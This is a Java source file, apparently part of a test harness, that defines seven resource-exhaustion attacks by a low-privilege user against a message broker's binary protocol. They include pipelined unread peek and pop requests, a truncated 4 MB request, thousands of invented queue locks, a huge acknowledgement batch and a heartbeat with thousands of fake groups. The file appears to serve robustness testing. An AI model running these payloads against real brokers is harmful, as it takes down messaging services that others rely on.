package io.posthorse.interop.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;

/** Attacks by a user with few rights. */
final class UsersAttacks {
    private static final int PEEK = 200_052;
    private static final int POP = 200_050;
    private static final int BATCH_ACK = 200_151;
    private static final int LOCK = 41;
    private static final int HEARTBEAT = 34;
    private static final int AT_ONCE = 2_000;
    private static final int INVENTED = 5_000;
    private static final byte[] NOTHING = {};

    private UsersAttacks() {}

    static List<Attack> all() {
        return List.of(
                new Attack("answers that are not taken", (target, open) -> many(
                        open.connect(target.brokerPort()).getOutputStream(), AT_ONCE, Wire.request(PEEK, Target.MALLORY,
                                Map.of("consumerGroup", "Mallory", "topic", Target.PLAY, "queueId", "-1",
                                        "maxMsgNums", "32"), NOTHING))),
                new Attack("requests that wait, in order", (target, open) -> many(
                        open.connect(target.brokerPort()).getOutputStream(), AT_ONCE, pop(true))),
                new Attack("requests that wait", (target, open) -> many(
                        open.connect(target.brokerPort()).getOutputStream(), AT_ONCE, pop(false))),
                new Attack("halves of great requests", (target, open) -> {
                    byte[] whole = Target.send(Target.MALLORY, Target.PLAY, 0, new byte[4 << 20]);
                    byte[] small = Target.send(Target.MALLORY, Target.PLAY, 0, new byte[10]);
                    OutputStream out = open.connect(target.brokerPort()).getOutputStream();
                    out.write(small); // the peer is known from here on
                    out.write(Arrays.copyOf(whole, whole.length - 1));
                }),
                new Attack("locks of queues that are invented", (target, open) -> one(target, open, LOCK, locks())),
                new Attack("millions of acknowledgements", (target, open) ->
                        one(target, open, BATCH_ACK, acknowledgements())),
                new Attack("groups without end", (target, open) -> one(target, open, HEARTBEAT, heartbeat())));
    }

    private static void many(OutputStream out, int count, byte[] request) throws IOException {
        byte[] all = new byte[count * request.length];
        for (int i = 0; i < count; i++) {
            System.arraycopy(request, 0, all, i * request.length, request.length);
        }
        out.write(all);
    }

    private static byte[] pop(boolean ordered) {
        return Wire.request(POP, Target.MALLORY, Map.of(
                "consumerGroup", "Mallory" + ordered, "topic", Target.PLAY, "queueId", "0", "maxMsgNums", "1",
                "invisibleTime", "60000", "pollTime", "15000", "bornTime", "0", "initMode", "1",
                "order", Boolean.toString(ordered)), NOTHING);
    }

    private static void one(Target target, Attack.Open open, int code, String body) throws IOException {
        open.connect(target.brokerPort()).getOutputStream().write(
                Wire.request(code, Target.MALLORY, Map.of(), Target.bytes(body)));
    }

    private static String locks() {
        StringBuilder queues = new StringBuilder();
        for (int i = 0; i < INVENTED; i++) {
            queues.append(i == 0 ? "" : ",").append("{\"topic\":\"Play\",\"queueId\":").append(i).append('}');
        }
        return "{\"consumerGroup\":\"Mallory\",\"clientId\":\"m\",\"mqSet\":[" + queues + "]}";
    }

    private static String acknowledgements() {
        byte[] bits = new byte[512];
        Arrays.fill(bits, (byte) -1);
        String one = "{\"c\":\"Mallory\",\"t\":\"Play\",\"q\":0,\"so\":0,\"pt\":1,\"b\":\""
                + Base64.getEncoder().encodeToString(bits) + "\"}";
        return "{\"acks\":[" + (one + ",").repeat(999) + one + "]}";
    }

    private static String heartbeat() {
        StringBuilder groups = new StringBuilder();
        long from = System.nanoTime();
        for (int i = 0; i < INVENTED; i++) {
            groups.append(i == 0 ? "" : ",").append("{\"groupName\":\"P").append(from + i).append("\"}");
        }
        return "{\"clientID\":\"m" + from + "\",\"producerDataSet\":[" + groups + "],\"consumerDataSet\":[]}";
    }
}
